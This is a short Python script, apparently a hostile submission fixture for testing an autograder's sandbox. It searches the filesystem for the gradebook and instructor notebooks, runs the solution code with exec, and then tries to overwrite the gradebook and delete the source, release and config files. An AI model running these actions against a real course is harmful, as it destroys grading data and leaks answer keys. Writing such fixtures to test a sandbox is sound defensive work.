# Attack: knows the course's real path (test_hostile.py puts it in COURSE) and every trick to find the
# gradebook, the source and the release, run the solutions, and damage the course.
import glob
import json
import os
import shutil

import autograder

COURSE = "COURSE_PATH"
places = [COURSE, os.getcwd(), "/tmp", os.path.dirname(str(autograder.__path__[0]))]
here = os.getcwd()
while here != "/":
    here = os.path.dirname(here)
    places.append(here)
found = []
for place in places:
    for pattern in ("gradebook.db", "source/*/*.ipynb", "*/source/*/*.ipynb", "release/*/*.ipynb"):
        found += glob.glob(os.path.join(place, pattern))
print("FOUND", sorted(set(found)))
for path in found:
    if path.endswith(".ipynb") and "source" in path:
        for cell in json.load(open(path))["cells"]:
            if cell["cell_type"] == "code":
                exec("".join(cell["source"]))
damage = []
for action in (lambda: open(COURSE + "/gradebook.db", "w").write("gone"),
               lambda: shutil.rmtree(COURSE + "/source"),
               lambda: shutil.rmtree(COURSE + "/release"),
               lambda: open(COURSE + "/submitted/os_exit/mnist_batch_size/x.txt", "w").write("x"),
               lambda: os.remove(COURSE + "/nbgrader_config.py")):
    try:
        action()
        damage.append("done")
    except Exception as exc:
        damage.append(type(exc).__name__)
print("DAMAGE", damage)
